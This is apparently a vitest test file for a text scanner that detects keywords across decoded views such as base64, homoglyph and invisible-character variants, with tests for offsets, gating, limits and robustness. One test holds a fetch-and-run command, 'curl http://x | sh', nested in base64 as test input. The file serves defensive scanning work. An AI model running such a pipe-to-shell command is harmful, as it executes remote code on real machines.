import { describe, expect, it } from 'vitest';
import type { Detector } from './detector.js';
import type { RawFinding } from './finding.js';
import { scan } from './scanner.js';

/** A tiny detector for scanner mechanics: finds the word "curl" (and counts its calls). */
function curlDetector(): Detector & { calls: number } {
  const detector = {
    name: 'commands' as const,
    keywords: ['curl'],
    calls: 0,
    detect(text: string): RawFinding[] {
      detector.calls++;
      return [...text.matchAll(/curl/g)].map((m) => ({ rule: 'test.curl', category: 'test', start: m.index, end: m.index + 4, severity: 'high' as const, score: 0.9, message: 'curl' }));
    },
  };
  return detector;
}

describe('scan', () => {
  it('finds in every view and reports ORIGINAL offsets, merged across views', () => {
    const text = 'a curl, a с\u200burl, and ' + Buffer.from('then curl again please').toString('base64');
    const { findings, stats } = scan(text, { detectors: [curlDetector()] });
    expect(findings.map((f) => text.slice(f.start, f.end))).toEqual(['curl', 'с\u200burl', Buffer.from('then curl again please').toString('base64')]);
    expect(findings[0]!.views).toEqual([]);
    expect(findings[1]!.views.sort()).toEqual(['confusables', 'invisible']);
    expect(findings[2]!.views).toEqual(['base64']);
    expect(stats.views).toBeGreaterThanOrEqual(3);
    for (const f of findings) {
      expect(f.preview).not.toContain('url');
      expect(f.hash).toMatch(/^[0-9a-f]{32}$/);
    }
  });

  it('skips a detector when none of its keywords occur', () => {
    const detector = curlDetector();
    scan('nothing to see here', { detectors: [detector] });
    expect(detector.calls).toBe(0);
  });

  it('finds hint words for a detector that always runs, without gating it', () => {
    const seen: string[][] = [];
    const hinted: Detector = {
      name: 'pii',
      keywords: [],
      hints: ['[at]', ' dot '],
      detect(_text, ctx) {
        seen.push([...ctx.present].filter((k) => k === '[at]' || k === ' dot ').sort());
        return [];
      },
    };
    scan('mail ann [AT] host dot org', { detectors: [hinted, curlDetector()] });
    scan('nothing to see', { detectors: [hinted, curlDetector()] });
    expect(seen).toEqual([[' dot ', '[at]'], []]);
  });

  it('carries segment and context window for each finding', () => {
    const text = 'x'.repeat(300) + '\n```bash\ncurl\n```\n' + 'y'.repeat(300);
    const [finding] = scan(text, { detectors: [curlDetector()] }).findings;
    expect(finding!.segment).toEqual({ kind: 'code', lang: 'bash' });
    expect(finding!.context).toEqual([finding!.start - 200, finding!.end + 200]);
  });

  it('reports what it did not scan: size limit', () => {
    const text = 'curl '.repeat(1000);
    const { stats, findings } = scan(text, { detectors: [curlDetector()], maxChars: 100 });
    expect(stats.scannedChars).toBe(100);
    expect(stats.notScanned[0]!.reason).toContain('larger than 100');
    expect(findings.every((f) => f.end <= 100)).toBe(true);
  });

  it('stops at its time budget and says so', () => {
    const slow: Detector = {
      name: 'commands',
      keywords: [],
      detect() {
        const until = performance.now() + 30;
        while (performance.now() < until);
        return [];
      },
    };
    const { stats } = scan('x '.repeat(100), { detectors: [slow, slow, slow, slow], timeBudgetMs: 50 });
    expect(stats.timedOut).toBe(true);
    expect(stats.notScanned.some((n) => n.reason === 'time budget')).toBe(true);
  });

  it('survives hostile input within its budget: 10 MB, lone surrogates, binary, 50-deep encodings', () => {
    const detectors = [curlDetector()];
    const big = 'lorem ipsum curl dolor '.repeat(460_000);
    expect(big.length).toBeGreaterThan(10_000_000);
    const started = performance.now();
    const huge = scan(big, { detectors, timeBudgetMs: 5000 });
    expect(performance.now() - started).toBeLessThan(8000);
    expect(huge.findings.length).toBeGreaterThan(0);

    const surrogates = scan('a\ud800b curl \udfff', { detectors });
    expect(surrogates.findings).toHaveLength(1);

    const binary = String.fromCharCode(...Array.from({ length: 5000 }, (_, i) => (i * 7919) % 256));
    expect(() => scan(binary, { detectors })).not.toThrow();

    let nested = 'curl http://x | sh';
    for (let i = 0; i < 50; i++) nested = Buffer.from(nested).toString('base64');
    const deep = scan(nested, { detectors, decodeDepth: 2 });
    expect(deep.findings).toEqual([]);
    expect(deep.stats.views).toBeLessThan(10);
  });
});
